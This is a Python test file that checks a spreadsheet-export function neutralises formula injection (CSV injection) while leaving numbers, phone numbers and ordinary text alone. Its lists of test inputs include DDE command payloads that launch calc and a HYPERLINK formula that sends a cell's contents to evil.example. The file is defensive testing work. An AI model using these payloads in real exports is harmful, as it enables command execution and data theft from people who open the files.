"""Tables for spreadsheet programs: what is written is read back, and nothing in it is a formula."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest

from tenants.ui.spreadsheet import BOM, COMMAS, POINTS, encoded, lines, safe, told_apart
from tests.contracts import hostile

FORMULAS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    " =1+1",
    "\u200b=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+44-131-496-0100",
    "+44 131 cmd|x",
    "-",
    "=",
]
# Kept as they are: numbers, telephone numbers, words in which a sign stands elsewhere.
HONEST = [
    "",
    "62.40",
    "-5",
    "-5,30",
    "+5",
    "-1.234,56",
    "+49 30 12345",
    "+44 (0)131 496-0100",
    "+493012345",
    "0131 496 0100",
    "a=b",
    "carol@example.com",
    "Mill Lane 3-5",
    "To bring:\n- a ladder\n- two buckets",
    "Well, -3 degrees; +5 tomorrow",
]
# What would begin a cell in a program that parts columns by another sign, or takes the end of a line for one of a row.
INSIDE = [
    "a;=1+1",
    "a,@SUM(1)",
    "a\n=1+1",
    "a\r\n=1",
    "a\t＝1",
    "x; -2+cmd|' /C calc'!A0",
    "x,+HYPERLINK(1)",
    "a\u2028=1",
]


def starts_a_formula(text: str) -> bool:
    return re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", text) is not None


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    found = safe(text)
    assert found.startswith("'")
    assert not re.search("[\x00\r\ufeff]", found)


@pytest.mark.parametrize("text", HONEST)
def test_what_is_honest_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


@pytest.mark.parametrize("text", INSIDE)
def test_nor_does_a_piece_of_a_cell_in_a_program_that_parts_them_otherwise(text: str) -> None:
    pieces = re.split(r"[;,\t\r\n]", safe(text))
    assert not any(starts_a_formula(piece) for piece in pieces)


@pytest.mark.parametrize("style", [POINTS, COMMAS], ids=["points", "commas"])
def test_hostile_strings_are_read_back_as_text_in_their_own_cells(style) -> None:
    strings = [text for text in hostile.STRINGS.values() if len(text) < 100_000] + FORMULAS + HONEST + INSIDE
    content = encoded(BOM + lines([[text, "x"] for text in strings], style))
    assert content.startswith(b"\xef\xbb\xbf") and b"\x00" not in content
    # Every end of a row is CRLF, every end of a line inside a cell LF.
    assert content.count(b"\r") == len(strings) == content.count(b"\r\n")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=style.delimiter))
    assert [len(row) for row in rows] == [2] * len(strings)
    assert [row[0] for row in rows] == [safe(text).encode("utf-8", "replace").decode() for text in strings]
    odd = [row[0] for row in rows if starts_a_formula(row[0]) and row[0] not in HONEST]
    assert not [text for text in odd if not re.fullmatch(r"-\d+", text)]


def test_numbers_are_written_for_the_settings_of_the_program() -> None:
    row = [Decimal("-62.40"), 3, Decimal("1E+3"), "a;b", 'say "x", y']
    assert lines([row], POINTS) == '-62.40,3,1000,a;b,"say ""x"", y"\r\n'
    assert lines([row], COMMAS) == '-62,40;3;1000;"a;b";"say ""x"", y"\r\n'


def test_heads_that_are_alike_are_told_apart() -> None:
    heads = ["Status", "Which?", "status", "Which?", "status (2)"]
    assert told_apart(heads) == ["Status", "Which?", "status (2)", "Which? (2)", "status (2) (2)"]
